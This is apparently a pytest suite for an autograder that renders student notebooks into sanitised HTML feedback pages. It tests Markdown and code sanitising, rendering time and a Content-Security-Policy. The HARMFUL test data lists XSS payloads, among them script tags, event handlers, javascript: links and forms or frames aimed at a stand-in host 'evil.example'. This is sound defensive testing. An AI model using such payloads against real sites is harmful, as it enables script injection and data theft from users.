"""What a student wrote or printed is shown, and nothing of it runs or fetches anything in a reader's browser."""

import os
import shutil
import subprocess
import time
from pathlib import Path

import nbformat
import pytest

from autograder.grading.pages import MOST_ON_PAGE, FeedbackExporter, safe_code, safe_markdown

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
HARMFUL = {
    "script": "<script>steal()</script>text",
    "event": '<img src="figures/a.svg" onerror="steal()">text',
    "link": "[text](javascript:steal())",
    "link in HTML": '<a href="javascript:steal()">text</a>',
    "link to data": "[text](data:text/html;base64,c3RlYWwoKQ==)",
    "frame": '<iframe src="https://evil.example/steal()"></iframe>text',
    "picture from elsewhere": "text ![steal()](https://evil.example/steal().png)",
    "picture of the machine": "text ![a](/etc/steal()) ![a](../../steal()) ![a](figures/../../steal())",
    "style": '<b style="background: url(https://evil.example/steal())">text</b>',
    "style sheet": "text <style>@import 'https://evil.example/steal()'</style>",
    "form": '<form action="https://evil.example/steal()"><input name="steal()"></form>text',
    "drawing": "text <svg onload=steal()><script>steal()</script></svg>",
    "formula": r"text <math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></math>",
    "formula with a link": r"text $\href{javascript:steal()}{x}$",
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example/steal()">text',
    "base": '<base href="https://evil.example/steal()/">text',
    "object": '<object data="https://evil.example/steal()"></object>text',
}


@pytest.mark.parametrize("source", HARMFUL.values(), ids=HARMFUL)
def test_markdown_keeps_its_text_and_loses_what_harms(source: str) -> None:
    html = safe_markdown(source)
    assert "text" in html
    assert "evil.example" not in html.replace("alt=", "")
    for word in ("steal()", "javascript:", "onerror", "onload", "<script", "<iframe", "<style", "<form", "<svg"):
        assert word not in html.replace('alt="steal()"', "").replace("<code>\\href{javascript:steal()}{x}</code>", "")


KEPT = {
    "formatting": ("**a** and `b < c`", "<strong>a</strong> and <code>b &lt; c</code>"),
    "inline formula": ("$x^2$", "<msup><mi>x</mi><mn>2</mn></msup>"),
    "formula": (r"$$\frac{a}{b}$$", "<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>"),
    "broken formula": (r"$\frac{a$", "<mi>a</mi>"),
    "picture of the notebook": ("![a block](figures/a.svg)", '<img src="figures/a.svg" alt="a block">'),
    "animation in the page": ("![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)", "R0lGODlhAQABAAAAACw="),
    "picture that is not there": ("**a** ![x](attachment:x.png)", "This text can't be shown as Markdown:"),
    "picture in the page": (f"![dot](data:image/png;base64,{PIXEL})", PIXEL),
    "table": ("|a|b|\n|---|---|\n|1|2|", "<th>a</th>"),
    "folded hint": ("<details><summary>Hint</summary>look</details>", "<summary>Hint</summary>"),
    "link": ("[paper](https://arxiv.org/abs/1512.03385)", 'href="https://arxiv.org/abs/1512.03385"'),
    "code": ("```python\nx < y\n```", "&lt;"),
}


def test_address_that_looks_like_ours_shows_nothing() -> None:
    assert "after" in safe_markdown('<img src="data:image/png;base64,&#48;0000099"> after')


@pytest.mark.parametrize(("source", "part"), KEPT.values(), ids=KEPT)
def test_markdown_keeps_its_meaning(source: str, part: str) -> None:
    assert part in safe_markdown(source)


SLOW = {
    "formula": (safe_markdown, r"\begin{a}" * 100_000),
    "brackets": (safe_markdown, "[" * 100_000),
    "short formula": (safe_markdown, r"\begin{a}" * 800),
    "blank lines": (safe_code, "\t\n" * 4000),
    "dots": (safe_code, "a" + ".b" * 4000),
    "a run of dots": (safe_code, "." * 7900),
    "lines of dots": (safe_code, ("." * 490 + "\n") * 16),
    "another language": (safe_markdown, "```perl\n" + "s{" * 3900 + "\n```"),
    "code in text": (safe_markdown, "```python\n" + "." * 7900 + "\n```"),
    "spaces": (safe_code, " " * 7900),
    "lines of spaces": (safe_code, (" " * 190 + "\\\n") * 40),
    "quotes": (safe_code, "'\\" * 3900),
    "brackets in code": (safe_code, "(" * 7900),
    "digits": (safe_code, "1_" * 3900),
    "f-string": (safe_code, "f'{" * 2600),
    "words": (safe_code, "a " * 3900),
    "import": (safe_code, "import a," * 850),
    "magic": (safe_code, "%" * 7900),
}


@pytest.mark.parametrize(("show", "source"), SLOW.values(), ids=SLOW)
def test_no_cell_takes_long_to_show(show, source: str) -> None:
    started = time.process_time()
    assert show(source)
    assert time.process_time() - started < 5


def test_page_shows_a_bounded_part_of_many_cells_in_colour() -> None:
    lines = [f"x{number} = f(a, b)\n" * 300 for number in range(60)]
    cells = [nbformat.v4.new_code_cell(source) for source in lines]
    cells += [nbformat.v4.new_markdown_cell(f"**x** {source}") for source in lines]
    page, _ = FeedbackExporter().from_notebook_node(nbformat.v4.new_notebook(cells=cells))
    assert 0 < page.count('<span class="n">x') < MOST_ON_PAGE / len("x1 = f(a, b)\n")
    assert 0 < page.count("<strong>x") < MOST_ON_PAGE / len(lines[0])
    assert all(f"x{number} = f" in page or f"x{number}</span>" in page for number in range(60))


def test_feedback_page_forbids_everything_but_text_and_pictures() -> None:
    cells = [nbformat.v4.new_code_cell("'</pre><script>steal()</script>'"), nbformat.v4.new_markdown_cell("$x$")]
    page, _ = FeedbackExporter().from_notebook_node(nbformat.v4.new_notebook(cells=cells))
    assert page.index("Content-Security-Policy") < page.index("<title>")
    assert "default-src 'none'" in page and "script-src" not in page
    assert "<script" not in page


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.mark.skipif(not CHROMIUM and not os.environ.get("CI"), reason="no Chromium here")
def test_browser_runs_nothing_even_of_what_slipped_through(tmp_path: Path) -> None:
    """The page's policy alone stops scripts: here they are in it as if nothing had been cleaned."""
    assert CHROMIUM, "On CI there must be a browser."
    page, _ = FeedbackExporter().from_notebook_node(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")]))
    attack = "<script>document.title = 'ran'</script><img src=x onerror=\"document.title = 'ran'\"></body>"
    titles = {}
    for name, text in {"with": page, "without": page.replace("http-equiv", "data-was")}.items():
        (tmp_path / f"{name}.html").write_text(text.replace("</body>", attack), encoding="utf-8")
        command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        command += ["--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom"]
        done = subprocess.run(
            [*command, (tmp_path / f"{name}.html").as_uri()], capture_output=True, text=True, timeout=90
        )
        titles[name] = done.stdout.split("<title>")[1].split("</title>")[0]
    assert titles == {"with": "Notebook", "without": "ran"}
